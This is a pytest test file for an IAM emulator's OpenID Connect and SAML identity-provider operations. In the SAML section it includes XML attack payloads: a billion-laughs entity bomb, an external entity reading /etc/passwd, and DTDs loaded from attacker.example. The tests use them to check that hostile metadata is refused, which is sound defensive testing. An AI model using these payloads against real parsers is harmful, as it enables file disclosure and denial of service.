"""IAM identity providers — OpenID Connect and SAML — stored, listed, tagged, authorised; on
SQLite and PostgreSQL.

No token exchange is involved: these are the entities a role's trust policy names. A hostile
SAML metadata document (a DTD declaring entities, an external entity) is refused before anything
is expanded.
"""

from __future__ import annotations

import time
from datetime import UTC, datetime
from typing import Any

import pytest
from callers import new_user, refused
from policy_docs import allow
from sqlalchemy import func, select

from a2c_iam.identity import IdentityService
from a2c_iam.identity import providers as providers
from a2c_iam.store import schema as s

GITHUB = "https://token.actions.githubusercontent.com"
THUMB = "6938FD4D98BAB03FAADB97B34396831E3780AEA1"
BAD_URL = "Invalid Open ID Connect Provider URL."
BAD_METADATA = "Could not parse metadata"
MD = "urn:oasis:names:tc:SAML:2.0:metadata"
# A certificate-sized filler, so that documents reach the model's 1,000-character minimum.
CERT = "MIIC" + "A" * 1200


def metadata(valid_until: str | None = "2030-06-01T12:00:00Z",
             entity: str = "https://idp.example.com/saml") -> str:
    until = f' validUntil="{valid_until}"' if valid_until is not None else ""
    return (
        f'<?xml version="1.0" encoding="UTF-8"?>\n'
        f'<md:EntityDescriptor xmlns:md="{MD}" xmlns:ds="http://www.w3.org/2000/09/xmldsig#"'
        f' entityID="{entity}"{until}>'
        '<md:IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol">'
        '<md:KeyDescriptor use="signing"><ds:KeyInfo><ds:X509Data><ds:X509Certificate>'
        f"{CERT}</ds:X509Certificate></ds:X509Data></ds:KeyInfo></md:KeyDescriptor>"
        '<md:SingleSignOnService Binding="urn:oasis:names:tc:SAML:2.0:bindings:HTTP-POST"'
        ' Location="https://idp.example.com/sso"/>'
        "</md:IDPSSODescriptor></md:EntityDescriptor>"
    )


def oidc_arn(account: Any, name: str) -> str:
    return f"arn:aws:iam::{account.account_id}:oidc-provider/{name}"


def saml_arn(account: Any, name: str) -> str:
    return f"arn:aws:iam::{account.account_id}:saml-provider/{name}"


def tag_rows(svc: IdentityService, resource_id: str) -> int:
    with svc.db.read() as conn:
        return int(conn.execute(select(func.count()).select_from(s.tags).where(
            s.tags.c.resource_id == resource_id)).scalar_one())


def provider_id(svc: IdentityService, table: Any, account: Any) -> list[str]:
    with svc.db.read() as conn:
        return [r[0] for r in conn.execute(select(table.c.id).where(
            table.c.account_id == account.account_id))]


# -- OpenID Connect: create, get, list, delete ------------------------------------------------------


def test_oidc_round_trip(call: Any, account: Any, svc: IdentityService) -> None:
    out = call("CreateOpenIDConnectProvider", Url=GITHUB, ClientIDList=["sts.amazonaws.com"],
               ThumbprintList=[THUMB], Tags=[{"Key": "team", "Value": "ci"}])
    arn = oidc_arn(account, "token.actions.githubusercontent.com")
    assert out == {"OpenIDConnectProviderArn": arn, "Tags": [{"Key": "team", "Value": "ci"}]}
    got = call("GetOpenIDConnectProvider", OpenIDConnectProviderArn=arn)
    assert got["Url"] == "token.actions.githubusercontent.com"
    assert got["ClientIDList"] == ["sts.amazonaws.com"]
    assert got["ThumbprintList"] == [THUMB.lower()]  # stored lower-cased
    assert isinstance(got["CreateDate"], datetime) and got["CreateDate"].tzinfo is not None
    assert abs((datetime.now(UTC) - got["CreateDate"]).total_seconds()) < 60
    assert got["Tags"] == [{"Key": "team", "Value": "ci"}]
    # No thumbprint and no client id: IAM no longer needs either.
    bare = call("CreateOpenIDConnectProvider", Url="https://idp.example.com/tenant/1")
    assert bare == {"OpenIDConnectProviderArn": oidc_arn(account, "idp.example.com/tenant/1")}
    got = call("GetOpenIDConnectProvider", OpenIDConnectProviderArn=bare["OpenIDConnectProviderArn"])
    assert (got["ClientIDList"], got["ThumbprintList"], "Tags" in got) == ([], [], False)
    assert call("ListOpenIDConnectProviders") == {"OpenIDConnectProviderList": [
        {"Arn": oidc_arn(account, "idp.example.com/tenant/1")}, {"Arn": arn}]}
    assert call("GetAccountSummary")["SummaryMap"]["Providers"] == 2
    (first_id, *_) = sorted(provider_id(svc, s.oidc_providers, account))
    call("DeleteOpenIDConnectProvider", OpenIDConnectProviderArn=arn)
    call("DeleteOpenIDConnectProvider", OpenIDConnectProviderArn=arn)  # IAM: idempotent
    assert call("ListOpenIDConnectProviders")["OpenIDConnectProviderList"] == [
        {"Arn": oidc_arn(account, "idp.example.com/tenant/1")}]
    assert call("GetAccountSummary")["SummaryMap"]["Providers"] == 1
    err = refused(call, "GetOpenIDConnectProvider", OpenIDConnectProviderArn=arn)
    assert (err.code, err.status, err.message) == (
        "NoSuchEntity", 404, f"OpenIDConnect Provider not found for arn {arn}")
    assert first_id  # every row has its own id


def test_oidc_delete_drops_its_tags(call: Any, account: Any, svc: IdentityService) -> None:
    call("CreateOpenIDConnectProvider", Url=GITHUB, Tags=[{"Key": "a", "Value": "1"}])
    (pid,) = provider_id(svc, s.oidc_providers, account)
    assert pid.startswith("OIDC") and len(pid) <= 32 and tag_rows(svc, pid) == 1
    call("DeleteOpenIDConnectProvider",
         OpenIDConnectProviderArn=oidc_arn(account, "token.actions.githubusercontent.com"))
    assert tag_rows(svc, pid) == 0 and provider_id(svc, s.oidc_providers, account) == []


def test_oidc_one_provider_per_url_host_without_case(call: Any, account: Any) -> None:
    call("CreateOpenIDConnectProvider", Url="https://idp.example.com/a")
    for url in ("https://idp.example.com/a", "https://IDP.Example.COM/a", "HTTPS://idp.example.com/a"):
        err = refused(call, "CreateOpenIDConnectProvider", Url=url)
        assert (err.code, err.status, err.message) == (
            "EntityAlreadyExists", 409, f"Provider with url {url} already exists.")
    # The path compares with case; another path is another provider.
    call("CreateOpenIDConnectProvider", Url="https://idp.example.com/A")
    call("CreateOpenIDConnectProvider", Url="https://idp.example.com")
    # An ARN whose host differs in case names the same provider.
    got = call("GetOpenIDConnectProvider",
               OpenIDConnectProviderArn=oidc_arn(account, "IDP.EXAMPLE.COM/a"))
    assert got["Url"] == "idp.example.com/a"
    assert len(call("ListOpenIDConnectProviders")["OpenIDConnectProviderList"]) == 3


@pytest.mark.parametrize("url", [
    "http://idp.example.com", "idp.example.com", "ftp://idp.example.com", "https://",
    "https:///path", "https://idp.example.com?x=1", "https://idp.example.com/p?x=1",
    "https://idp.example.com#frag", "https://idp.example.com:8443",
    "https://user@idp.example.com", "https://idp.example.com/a b", "https://idp.example.com//x",
])
def test_oidc_url_refused(call: Any, url: str) -> None:
    err = refused(call, "CreateOpenIDConnectProvider", Url=url)
    assert (err.code, err.status, err.message) == ("InvalidInput", 400, BAD_URL)
    assert call("ListOpenIDConnectProviders")["OpenIDConnectProviderList"] == []


def test_oidc_model_limits(call: Any) -> None:
    err = refused(call, "CreateOpenIDConnectProvider", Url="https://" + "a" * 250 + ".com")
    assert err.code == "ValidationError" and "less than or equal to 255" in err.message
    err = refused(call, "CreateOpenIDConnectProvider", Url=GITHUB, ThumbprintList=["a" * 39])
    assert err.code == "ValidationError" and "greater than or equal to 40" in err.message
    err = refused(call, "CreateOpenIDConnectProvider", Url=GITHUB, ClientIDList=["c" * 256])
    assert err.code == "ValidationError" and "less than or equal to 255" in err.message
    err = refused(call, "CreateOpenIDConnectProvider")
    assert err.code == "ValidationError" and "'url'" in err.message


def test_oidc_thumbprints(call: Any, account: Any) -> None:
    err = refused(call, "CreateOpenIDConnectProvider", Url=GITHUB, ThumbprintList=["g" * 40])
    assert (err.code, err.message) == ("InvalidInput",
                                       f"Thumbprint {'g' * 40} must be 40 hexadecimal digits.")
    six = [f"{i}" * 40 for i in range(6)]
    err = refused(call, "CreateOpenIDConnectProvider", Url=GITHUB, ThumbprintList=six)
    assert (err.code, err.status, err.message) == (
        "LimitExceeded", 409, "Cannot exceed quota for ThumbprintsPerOpenIdConnectProvider: 5")
    # Duplicates (in any case) count once.
    call("CreateOpenIDConnectProvider", Url=GITHUB, ThumbprintList=six[:5] + [six[0].upper()])
    arn = oidc_arn(account, "token.actions.githubusercontent.com")
    call("UpdateOpenIDConnectProviderThumbprint", OpenIDConnectProviderArn=arn,
         ThumbprintList=["ABCDEF" + "0" * 34, "abcdef" + "0" * 34])
    assert call("GetOpenIDConnectProvider", OpenIDConnectProviderArn=arn)["ThumbprintList"] == [
        "abcdef" + "0" * 34]
    err = refused(call, "UpdateOpenIDConnectProviderThumbprint", OpenIDConnectProviderArn=arn,
                  ThumbprintList=six)
    assert err.code == "LimitExceeded"
    call("UpdateOpenIDConnectProviderThumbprint", OpenIDConnectProviderArn=arn, ThumbprintList=[])
    assert call("GetOpenIDConnectProvider", OpenIDConnectProviderArn=arn)["ThumbprintList"] == []


def test_oidc_client_ids(call: Any, account: Any) -> None:
    too_many = [f"app-{i}" for i in range(101)]
    err = refused(call, "CreateOpenIDConnectProvider", Url=GITHUB, ClientIDList=too_many)
    assert (err.code, err.status, err.message) == (
        "LimitExceeded", 409, "Cannot exceed quota for ClientIdsPerOpenIdConnectProvider: 100")
    call("CreateOpenIDConnectProvider", Url=GITHUB, ClientIDList=["a", "b", "a"])
    arn = oidc_arn(account, "token.actions.githubusercontent.com")

    def clients() -> list[str]:
        return list(call("GetOpenIDConnectProvider", OpenIDConnectProviderArn=arn)["ClientIDList"])

    assert clients() == ["a", "b"]
    call("AddClientIDToOpenIDConnectProvider", OpenIDConnectProviderArn=arn, ClientID="c")
    call("AddClientIDToOpenIDConnectProvider", OpenIDConnectProviderArn=arn, ClientID="a")  # has it
    assert clients() == ["a", "b", "c"]
    call("RemoveClientIDFromOpenIDConnectProvider", OpenIDConnectProviderArn=arn, ClientID="b")
    call("RemoveClientIDFromOpenIDConnectProvider", OpenIDConnectProviderArn=arn, ClientID="zz")
    assert clients() == ["a", "c"]
    for i in range(98):
        call("AddClientIDToOpenIDConnectProvider", OpenIDConnectProviderArn=arn, ClientID=f"x{i}")
    assert len(clients()) == 100
    err = refused(call, "AddClientIDToOpenIDConnectProvider", OpenIDConnectProviderArn=arn,
                  ClientID="one-more")
    assert err.code == "LimitExceeded" and len(clients()) == 100
    call("AddClientIDToOpenIDConnectProvider", OpenIDConnectProviderArn=arn, ClientID="a")  # no-op


def test_oidc_missing_and_malformed_arns(call: Any, account: Any) -> None:
    arn = oidc_arn(account, "nowhere.example.com")
    elsewhere = "arn:aws:iam::999988887777:oidc-provider/token.actions.githubusercontent.com"
    call("CreateOpenIDConnectProvider", Url=GITHUB)
    for target in (arn, elsewhere):
        for op, extra in [
            ("GetOpenIDConnectProvider", {}),
            ("AddClientIDToOpenIDConnectProvider", {"ClientID": "x"}),
            ("RemoveClientIDFromOpenIDConnectProvider", {"ClientID": "x"}),
            ("UpdateOpenIDConnectProviderThumbprint", {"ThumbprintList": [THUMB]}),
            ("TagOpenIDConnectProvider", {"Tags": [{"Key": "k", "Value": "v"}]}),
            ("UntagOpenIDConnectProvider", {"TagKeys": ["k"]}),
            ("ListOpenIDConnectProviderTags", {}),
        ]:
            err = refused(call, op, OpenIDConnectProviderArn=target, **extra)
            assert (err.code, err.status, err.message) == (
                "NoSuchEntity", 404, f"OpenIDConnect Provider not found for arn {target}"), op
        call("DeleteOpenIDConnectProvider", OpenIDConnectProviderArn=target)  # idempotent
    assert len(call("ListOpenIDConnectProviders")["OpenIDConnectProviderList"]) == 1
    bad = f"arn:aws:iam::{account.account_id}:role/not-a-provider"
    for op in ("GetOpenIDConnectProvider", "DeleteOpenIDConnectProvider"):
        err = refused(call, op, OpenIDConnectProviderArn=bad)
        assert (err.code, err.message) == ("InvalidInput", f"ARN {bad} is not valid.")


def test_oidc_quota(call: Any, account: Any) -> None:
    for i in range(providers.OIDC_PROVIDERS_PER_ACCOUNT):
        call("CreateOpenIDConnectProvider", Url=f"https://idp{i}.example.com")
    err = refused(call, "CreateOpenIDConnectProvider", Url="https://one-more.example.com")
    assert (err.code, err.status, err.message) == (
        "LimitExceeded", 409, "Cannot exceed quota for OpenIdConnectProvidersPerAccount: 100")
    # The name error wins over the quota, as for other entities.
    err = refused(call, "CreateOpenIDConnectProvider", Url="https://idp0.example.com")
    assert err.code == "EntityAlreadyExists"
    assert call("GetAccountSummary")["SummaryMap"]["Providers"] == 100


def test_oidc_tags(call: Any, account: Any) -> None:
    call("CreateOpenIDConnectProvider", Url=GITHUB)
    arn = oidc_arn(account, "token.actions.githubusercontent.com")
    call("TagOpenIDConnectProvider", OpenIDConnectProviderArn=arn,
         Tags=[{"Key": "Env", "Value": "prod"}, {"Key": "team", "Value": "ci"}])
    call("TagOpenIDConnectProvider", OpenIDConnectProviderArn=arn,
         Tags=[{"Key": "env", "Value": "dev"}])  # replaces Env (keys compare without case)
    listed = call("ListOpenIDConnectProviderTags", OpenIDConnectProviderArn=arn)
    assert listed["Tags"] == [{"Key": "team", "Value": "ci"}, {"Key": "env", "Value": "dev"}]
    assert listed["IsTruncated"] is False
    page = call("ListOpenIDConnectProviderTags", OpenIDConnectProviderArn=arn, MaxItems=1)
    assert page["IsTruncated"] is True and len(page["Tags"]) == 1
    call("UntagOpenIDConnectProvider", OpenIDConnectProviderArn=arn, TagKeys=["TEAM", "absent"])
    assert call("ListOpenIDConnectProviderTags", OpenIDConnectProviderArn=arn)["Tags"] == [
        {"Key": "env", "Value": "dev"}]
    err = refused(call, "TagOpenIDConnectProvider", OpenIDConnectProviderArn=arn,
                  Tags=[{"Key": "k", "Value": "1"}, {"Key": "K", "Value": "2"}])
    assert (err.code, err.message) == (
        "InvalidInput", "Duplicate tag keys found. Please note that Tag keys are case insensitive.")
    err = refused(call, "TagOpenIDConnectProvider", OpenIDConnectProviderArn=arn,
                  Tags=[{"Key": f"k{i}", "Value": ""} for i in range(50)])
    assert (err.code, err.message) == (
        "LimitExceeded", "Cannot exceed quota for TagsPerOpenIDConnectProvider: 50")
    err = refused(call, "TagOpenIDConnectProvider", OpenIDConnectProviderArn=arn,
                  Tags=[{"Key": "bad\u0000key", "Value": ""}])
    assert err.code == "ValidationError"


# -- SAML ------------------------------------------------------------------------------------------


def test_saml_round_trip(call: Any, account: Any, svc: IdentityService) -> None:
    doc = metadata()
    out = call("CreateSAMLProvider", Name="Okta", SAMLMetadataDocument=doc,
               Tags=[{"Key": "idp", "Value": "okta"}])
    arn = saml_arn(account, "Okta")
    assert out == {"SAMLProviderArn": arn, "Tags": [{"Key": "idp", "Value": "okta"}]}
    got = call("GetSAMLProvider", SAMLProviderArn=arn)
    assert got["SAMLMetadataDocument"] == doc
    assert got["ValidUntil"] == datetime(2030, 6, 1, 12, 0, tzinfo=UTC)
    assert got["CreateDate"].tzinfo is not None
    assert got["Tags"] == [{"Key": "idp", "Value": "okta"}]
    uuid = got["SAMLProviderUUID"]
    assert 22 <= len(uuid) <= 32 and uuid.isalnum() and uuid.isupper()
    assert "AssertionEncryptionMode" not in got and "PrivateKeyList" not in got
    call("CreateSAMLProvider", Name="adfs", SAMLMetadataDocument=metadata(None),
         AssertionEncryptionMode="Allowed")
    got = call("GetSAMLProvider", SAMLProviderArn=saml_arn(account, "adfs"))
    assert "ValidUntil" not in got and got["AssertionEncryptionMode"] == "Allowed"
    listed = call("ListSAMLProviders")["SAMLProviderList"]
    assert [p["Arn"] for p in listed] == [arn, saml_arn(account, "adfs")]  # by ARN
    assert listed[0]["ValidUntil"] == datetime(2030, 6, 1, 12, 0, tzinfo=UTC)
    assert "ValidUntil" not in listed[1] and listed[1]["CreateDate"].tzinfo is not None
    assert call("GetAccountSummary")["SummaryMap"]["Providers"] == 2
    call("CreateOpenIDConnectProvider", Url=GITHUB)
    assert call("GetAccountSummary")["SummaryMap"]["Providers"] == 3
    ids_before = provider_id(svc, s.saml_providers, account)
    call("DeleteSAMLProvider", SAMLProviderArn=arn)
    assert [p["Arn"] for p in call("ListSAMLProviders")["SAMLProviderList"]] == [
        saml_arn(account, "adfs")]
    assert tag_rows(svc, uuid) == 0 and uuid in ids_before
    err = refused(call, "DeleteSAMLProvider", SAMLProviderArn=arn)
    assert (err.code, err.status, err.message) == (
        "NoSuchEntity", 404, f"Manifest not found for arn {arn}")


def test_saml_validuntil_forms(call: Any, account: Any) -> None:
    call("CreateSAMLProvider", Name="a", SAMLMetadataDocument=metadata("2031-01-02T03:04:05.5+02:00"))
    got = call("GetSAMLProvider", SAMLProviderArn=saml_arn(account, "a"))
    assert got["ValidUntil"].replace(microsecond=0) == datetime(2031, 1, 2, 1, 4, 5, tzinfo=UTC)
    call("CreateSAMLProvider", Name="b", SAMLMetadataDocument=metadata("2031-01-02T03:04:05"))
    got = call("GetSAMLProvider", SAMLProviderArn=saml_arn(account, "b"))
    assert got["ValidUntil"] == datetime(2031, 1, 2, 3, 4, 5, tzinfo=UTC)  # no zone: UTC
    err = refused(call, "CreateSAMLProvider", Name="c", SAMLMetadataDocument=metadata("soon"))
    assert (err.code, err.message) == ("InvalidInput", BAD_METADATA)


def test_saml_names(call: Any, account: Any) -> None:
    call("CreateSAMLProvider", Name="Okta", SAMLMetadataDocument=metadata())
    for name in ("Okta", "OKTA", "okta"):
        err = refused(call, "CreateSAMLProvider", Name=name, SAMLMetadataDocument=metadata())
        assert (err.code, err.status, err.message) == (
            "EntityAlreadyExists", 409, f"SAMLProvider {name} already exists.")
    # Names compare without case in ARNs too.
    assert call("GetSAMLProvider", SAMLProviderArn=saml_arn(account, "okta"))["CreateDate"]
    err = refused(call, "CreateSAMLProvider", Name="bad name", SAMLMetadataDocument=metadata())
    assert err.code == "ValidationError"
    err = refused(call, "CreateSAMLProvider", Name="x" * 129, SAMLMetadataDocument=metadata())
    assert err.code == "ValidationError"


def test_saml_document_size(call: Any) -> None:
    err = refused(call, "CreateSAMLProvider", Name="short",
                  SAMLMetadataDocument=f'<md:EntityDescriptor xmlns:md="{MD}"/>')
    assert err.code == "ValidationError" and "greater than or equal to 1000" in err.message
    err = refused(call, "CreateSAMLProvider", Name="big",
                  SAMLMetadataDocument="x" * 10_000_001)
    assert err.code == "ValidationError" and "less than or equal to 10000000" in err.message


@pytest.mark.parametrize("document", [
    "not xml at all " * 100,
    # Well-formed, but not SAML metadata.
    "<root>" + "x" * 1000 + "</root>",
    f'<EntityDescriptor xmlns="urn:example">{"x" * 1000}</EntityDescriptor>',
    # Unclosed.
    metadata()[:-10],
    # An entity that no DTD declares.
    metadata().replace(CERT, CERT + "&undeclared;"),
])
def test_saml_unparseable_document(call: Any, document: str) -> None:
    err = refused(call, "CreateSAMLProvider", Name="p", SAMLMetadataDocument=document)
    assert (err.code, err.status, err.message) == ("InvalidInput", 400, BAD_METADATA)
    assert call("ListSAMLProviders")["SAMLProviderList"] == []


def _billion_laughs() -> str:
    levels = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{"".join(f"&lol{i - 1};" for _ in range(10))}">' for i in range(1, 12)]
    return ('<?xml version="1.0"?>\n<!DOCTYPE md:EntityDescriptor [' + "".join(levels) + "]>\n"
            + metadata().split("?>\n", 1)[1].replace(CERT, CERT + "&lol11;"))


@pytest.mark.parametrize("document", [
    _billion_laughs(),  # 10^11 "lol"s if it were expanded
    '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY ext SYSTEM "file:///etc/passwd">]>\n'
    + metadata().split("?>\n", 1)[1].replace(CERT, CERT + "&ext;"),
    '<?xml version="1.0"?>\n<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">\n'
    + metadata().split("?>\n", 1)[1],
    '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>\n'
    + metadata().split("?>\n", 1)[1],
    # A harmless DTD is refused as well: none is needed in SAML metadata.
    '<?xml version="1.0"?>\n<!DOCTYPE md:EntityDescriptor>\n' + metadata().split("?>\n", 1)[1],
])
def test_saml_hostile_document_refused_unexpanded(call: Any, account: Any, document: str) -> None:
    started = time.monotonic()
    err = refused(call, "CreateSAMLProvider", Name="evil", SAMLMetadataDocument=document)
    assert (err.code, err.message) == ("InvalidInput", BAD_METADATA)
    assert time.monotonic() - started < 5  # nothing was expanded
    call("CreateSAMLProvider", Name="good", SAMLMetadataDocument=metadata())
    err = refused(call, "UpdateSAMLProvider", SAMLProviderArn=saml_arn(account, "good"),
                  SAMLMetadataDocument=document)
    assert (err.code, err.message) == ("InvalidInput", BAD_METADATA)
    assert [p["Arn"] for p in call("ListSAMLProviders")["SAMLProviderList"]] == [
        saml_arn(account, "good")]
    got = call("GetSAMLProvider", SAMLProviderArn=saml_arn(account, "good"))
    assert got["SAMLMetadataDocument"] == metadata()


def test_saml_parser_stops_at_the_doctype(monkeypatch: pytest.MonkeyPatch) -> None:
    """The refusal comes at the DOCTYPE: no entity declaration after it is ever read."""
    calls: list[tuple[Any, ...]] = []

    def record(*args: Any) -> Any:
        calls.append(args)
        raise providers._Refused

    monkeypatch.setattr(providers, "_refuse", record)
    err = refused(providers.metadata_valid_until, _billion_laughs())
    assert (err.code, err.message) == ("InvalidInput", BAD_METADATA)
    assert calls == [("md:EntityDescriptor", None, None, 1)]  # StartDoctypeDecl, and only it


def test_saml_entity_in_an_attribute_is_not_expanded(call: Any) -> None:
    """Even a harmless internal entity is refused: validUntil is never read through one."""
    body = metadata('&until;').split("?>\n", 1)[1]
    document = ('<?xml version="1.0"?>\n<!DOCTYPE md:EntityDescriptor '
                '[<!ENTITY until "2030-01-01T00:00:00Z">]>\n' + body)
    err = refused(call, "CreateSAMLProvider", Name="p", SAMLMetadataDocument=document)
    assert (err.code, err.message) == ("InvalidInput", BAD_METADATA)


def test_saml_private_keys_refused(call: Any, account: Any, svc: IdentityService) -> None:
    pem = "-----BEGIN PRIVATE KEY-----\nMIIEvQ...\n-----END PRIVATE KEY-----\n"
    err = refused(call, "CreateSAMLProvider", Name="enc", SAMLMetadataDocument=metadata(),
                  AddPrivateKey=pem, AssertionEncryptionMode="Required")
    assert err.code == "InvalidInput" and "Private keys" in err.message
    assert pem not in err.message
    assert call("ListSAMLProviders")["SAMLProviderList"] == []
    err = refused(call, "CreateSAMLProvider", Name="enc", SAMLMetadataDocument=metadata(),
                  AssertionEncryptionMode="Required")
    assert (err.code, err.message) == ("InvalidInput", "Unable to set assertion encryption mode "
                                       "to Required because no private key is provided.")
    err = refused(call, "CreateSAMLProvider", Name="enc", SAMLMetadataDocument=metadata(),
                  AssertionEncryptionMode="Sometimes")
    assert err.code == "ValidationError"
    call("CreateSAMLProvider", Name="enc", SAMLMetadataDocument=metadata())
    arn = saml_arn(account, "enc")
    for extra in ({"AddPrivateKey": pem}, {"RemovePrivateKey": "A" * 22}):
        err = refused(call, "UpdateSAMLProvider", SAMLProviderArn=arn, **extra)
        assert err.code == "InvalidInput" and "Private keys" in err.message
    err = refused(call, "UpdateSAMLProvider", SAMLProviderArn=arn,
                  AssertionEncryptionMode="Required")
    assert err.code == "InvalidInput"
    # The key is nowhere in the store.
    with svc.db.read() as conn:
        for table in (s.saml_providers, s.audit_events):
            for row in conn.execute(select(table)):
                assert "PRIVATE KEY" not in repr(tuple(row))


def test_saml_update(call: Any, account: Any) -> None:
    call("CreateSAMLProvider", Name="Okta", SAMLMetadataDocument=metadata())
    arn = saml_arn(account, "okta")
    err = refused(call, "UpdateSAMLProvider", SAMLProviderArn=arn)
    assert (err.code, err.message) == ("InvalidInput", "Unable to update identity provider. No "
                                       "updates are defined for metadata or encryption assertion.")
    new = metadata("2040-01-01T00:00:00Z", entity="https://idp.example.com/new")
    out = call("UpdateSAMLProvider", SAMLProviderArn=arn, SAMLMetadataDocument=new)
    assert out == {"SAMLProviderArn": saml_arn(account, "Okta")}
    got = call("GetSAMLProvider", SAMLProviderArn=arn)
    assert got["SAMLMetadataDocument"] == new
    assert got["ValidUntil"] == datetime(2040, 1, 1, tzinfo=UTC)
    call("UpdateSAMLProvider", SAMLProviderArn=arn, AssertionEncryptionMode="Allowed")
    got = call("GetSAMLProvider", SAMLProviderArn=arn)
    assert got["AssertionEncryptionMode"] == "Allowed" and got["SAMLMetadataDocument"] == new
    call("UpdateSAMLProvider", SAMLProviderArn=arn, SAMLMetadataDocument=metadata(None))
    assert "ValidUntil" not in call("GetSAMLProvider", SAMLProviderArn=arn)


def test_saml_missing_and_malformed_arns(call: Any, account: Any) -> None:
    call("CreateSAMLProvider", Name="Okta", SAMLMetadataDocument=metadata())
    for target in (saml_arn(account, "absent"), "arn:aws:iam::999988887777:saml-provider/Okta"):
        for op, extra in [
            ("GetSAMLProvider", {}),
            ("UpdateSAMLProvider", {"AssertionEncryptionMode": "Allowed"}),
            ("DeleteSAMLProvider", {}),
            ("TagSAMLProvider", {"Tags": [{"Key": "k", "Value": "v"}]}),
            ("UntagSAMLProvider", {"TagKeys": ["k"]}),
            ("ListSAMLProviderTags", {}),
        ]:
            err = refused(call, op, SAMLProviderArn=target, **extra)
            assert (err.code, err.status, err.message) == (
                "NoSuchEntity", 404, f"Manifest not found for arn {target}"), op
    bad = f"arn:aws:iam::{account.account_id}:oidc-provider/Okta"
    err = refused(call, "GetSAMLProvider", SAMLProviderArn=bad)
    assert (err.code, err.message) == ("InvalidInput", f"ARN {bad} is not valid.")


def test_saml_quota(call: Any) -> None:
    doc = metadata()
    for i in range(providers.SAML_PROVIDERS_PER_ACCOUNT):
        call("CreateSAMLProvider", Name=f"p{i}", SAMLMetadataDocument=doc)
    err = refused(call, "CreateSAMLProvider", Name="one-more", SAMLMetadataDocument=doc)
    assert (err.code, err.status, err.message) == (
        "LimitExceeded", 409, "Cannot exceed quota for SAMLProvidersPerAccount: 100")
    assert call("GetAccountSummary")["SummaryMap"]["Providers"] == 100


def test_saml_tags(call: Any, account: Any) -> None:
    call("CreateSAMLProvider", Name="Okta", SAMLMetadataDocument=metadata())
    arn = saml_arn(account, "Okta")
    call("TagSAMLProvider", SAMLProviderArn=arn, Tags=[{"Key": "a", "Value": "1"},
                                                       {"Key": "b", "Value": "2"}])
    call("UntagSAMLProvider", SAMLProviderArn=arn, TagKeys=["A"])
    assert call("ListSAMLProviderTags", SAMLProviderArn=arn)["Tags"] == [{"Key": "b", "Value": "2"}]
    err = refused(call, "TagSAMLProvider", SAMLProviderArn=arn,
                  Tags=[{"Key": f"k{i}", "Value": ""} for i in range(50)])
    assert (err.code, err.message) == ("LimitExceeded",
                                       "Cannot exceed quota for TagsPerSAMLProvider: 50")
    assert call("GetSAMLProvider", SAMLProviderArn=arn)["Tags"] == [{"Key": "b", "Value": "2"}]


# -- authorisation -----------------------------------------------------------------------------------


def test_create_oidc_is_authorised_on_the_arn_it_creates(call: Any, account: Any,
                                                         svc: IdentityService) -> None:
    github = oidc_arn(account, "token.actions.githubusercontent.com")
    user = new_user(call, svc, "deployer",
                    allow("iam:CreateOpenIDConnectProvider", resource=github),
                    allow("iam:GetOpenIDConnectProvider", "iam:ListOpenIDConnectProviders"))
    out = svc.run("iam", "CreateOpenIDConnectProvider", user, Url=GITHUB,
                  ClientIDList=["sts.amazonaws.com"])
    assert out["OpenIDConnectProviderArn"] == github
    other = oidc_arn(account, "gitlab.com")
    err = refused(svc.run, "iam", "CreateOpenIDConnectProvider", user, Url="https://gitlab.com")
    assert (err.code, err.status) == ("AccessDenied", 403)
    assert err.message == (
        f"User: arn:aws:iam::{account.account_id}:user/deployer is not authorized to perform: "
        f"iam:CreateOpenIDConnectProvider on resource: {other} because no identity-based policy "
        "allows the iam:CreateOpenIDConnectProvider action")
    assert [p["Arn"] for p in svc.run("iam", "ListOpenIDConnectProviders", user)[
        "OpenIDConnectProviderList"]] == [github]
    # Other operations act on the ARN they are given.
    err = refused(svc.run, "iam", "DeleteOpenIDConnectProvider", user,
                  OpenIDConnectProviderArn=github)
    assert err.code == "AccessDenied" and f"on resource: {github}" in err.message
    assert svc.run("iam", "GetOpenIDConnectProvider", user,
                   OpenIDConnectProviderArn=github)["Url"] == GITHUB[8:]
    # The audit trail names the ARN created.
    with svc.db.read() as conn:
        e = s.audit_events.c
        targets = [r.target_arn for r in conn.execute(select(s.audit_events).where(
            e.account_id == account.account_id, e.operation == "CreateOpenIDConnectProvider",
            e.outcome == "Success"))]
    assert targets == [github]


def test_create_saml_is_authorised_on_the_arn_it_creates(call: Any, account: Any,
                                                         svc: IdentityService) -> None:
    okta = saml_arn(account, "Okta")
    user = new_user(call, svc, "sso-admin",
                    allow("iam:CreateSAMLProvider", "iam:TagSAMLProvider", resource=okta))
    svc.run("iam", "CreateSAMLProvider", user, Name="Okta", SAMLMetadataDocument=metadata(),
            Tags=[{"Key": "k", "Value": "v"}])
    err = refused(svc.run, "iam", "CreateSAMLProvider", user, Name="Other",
                  SAMLMetadataDocument=metadata())
    assert err.code == "AccessDenied" and f"on resource: {saml_arn(account, 'Other')}" in err.message
    err = refused(svc.run, "iam", "GetSAMLProvider", user, SAMLProviderArn=okta)
    assert err.code == "AccessDenied"
    assert call("ListSAMLProviders")["SAMLProviderList"][0]["Arn"] == okta
